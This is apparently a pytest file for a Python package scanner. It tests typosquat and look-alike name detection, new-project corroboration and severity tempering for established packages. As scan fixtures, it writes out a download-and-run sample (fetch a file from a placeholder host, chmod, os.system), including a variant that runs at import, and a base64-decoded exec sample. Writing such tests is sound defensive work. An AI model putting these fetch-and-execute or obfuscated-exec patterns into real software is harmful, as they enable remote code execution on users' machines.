"""Weak signals that add up: a look-alike name on a brand-new project."""

from __future__ import annotations

from jupyter_safepip.core.checks import names
from jupyter_safepip.core.checks.corroborate import CORROBORATIONS, corroborate, temper_library, temper_names
from jupyter_safepip.core.checks.metadata import RULES as META_RULES
from jupyter_safepip.core.model import Evidence, Finding, Severity
from tests.support.archives import scan_wheel


def new_project(package: str) -> Finding:
    rule = META_RULES["meta.new-project"]
    return Finding(rule.id, rule.severity, rule.explanation, package, (Evidence("index", None, "first upload today"),))


def test_a_hint_and_a_new_project_make_a_high_finding_with_the_suggestion():
    hint = names.check_name("celery-routing")
    (young,) = corroborate([*hint, new_project("celery-routing")])
    assert (young.rule_id, young.severity, young.suggestion) == ("name.young-lookalike", Severity.HIGH, "celery")
    assert young.package == "celery-routing" and "Did you mean 'celery'?" in young.message
    assert {e.snippet for e in young.evidence} == {"first upload today", "celery-routing vs celery: 'routing' added"}


def test_either_signal_alone_adds_nothing():
    assert corroborate(names.check_name("celery-routing")) == ()
    assert corroborate([new_project("celery-routing")]) == ()
    assert corroborate([*names.check_name("zzqqxxwv"), new_project("zzqqxxwv")]) == ()


def test_every_needed_rule_exists():
    known = set(names.RULES) | set(META_RULES)
    assert all(c.needs <= known for c in CORROBORATIONS)


def test_look_alike_findings_on_an_established_project_are_one_level_lower():
    typo, hint, combo = (names.check_name(n)[0] for n in ("reqeusts", "celery-routing", "requests-api"))
    other = new_project("reqeusts")
    since = "on the index since 2019-03-01, 14 releases"
    lowered, same_hint, same_combo, same_other = temper_names([typo, hint, combo, other], since)
    assert (lowered.rule_id, lowered.severity, lowered.suggestion) == ("name.typo", Severity.MEDIUM, "requests")
    assert "established, on the index since 2019-03-01" in lowered.message
    assert lowered.evidence[-1].snippet == since
    assert (same_hint, same_combo, same_other) == (hint, combo, other)  # not blocking, or not about the name
    assert combo.severity == Severity.MEDIUM  # a warning stays a warning
    assert temper_names([typo], None) == (typo,)


def test_library_behaviour_of_an_established_project_is_reported_not_weighed(tmp_path):
    download_and_run = ("import os, urllib.request\ndef flamegraph(path):\n"
                        "    urllib.request.urlretrieve('https://example.invalid/fg.pl', path)\n"
                        "    os.chmod(path, 0o755)\n    os.system(path)\n")
    library = scan_wheel(tmp_path / "lib", {"demo/viz.py": download_and_run}).findings
    at_import = scan_wheel(tmp_path / "imp", {"demo/__init__.py": download_and_run + "flamegraph('x')\n"}).findings
    worst = max(f.severity for f in library)
    assert worst >= Severity.HIGH  # a young project: the flow is a verdict
    settled = "on the index since 2019-01-01, 40 releases"
    assert max(f.severity for f in temper_library(library, settled)) <= Severity.LOW
    assert max(f.severity for f in temper_library(library, None)) == worst
    # the same flow at import time keeps its weight in any project
    assert max(f.severity for f in temper_library(at_import, settled)) >= Severity.HIGH


def test_hiding_in_library_code_of_an_established_project_still_weighs(tmp_path):
    hidden = "import base64\ndef run():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n"
    findings = scan_wheel(tmp_path, {"demo/mod.py": hidden}).findings
    tempered = {f.rule_id: f.severity for f in temper_library(findings, "on the index since 2019-01-01, 40 releases")}
    assert tempered["obfuscation-exec-decoded"] == Severity.MEDIUM
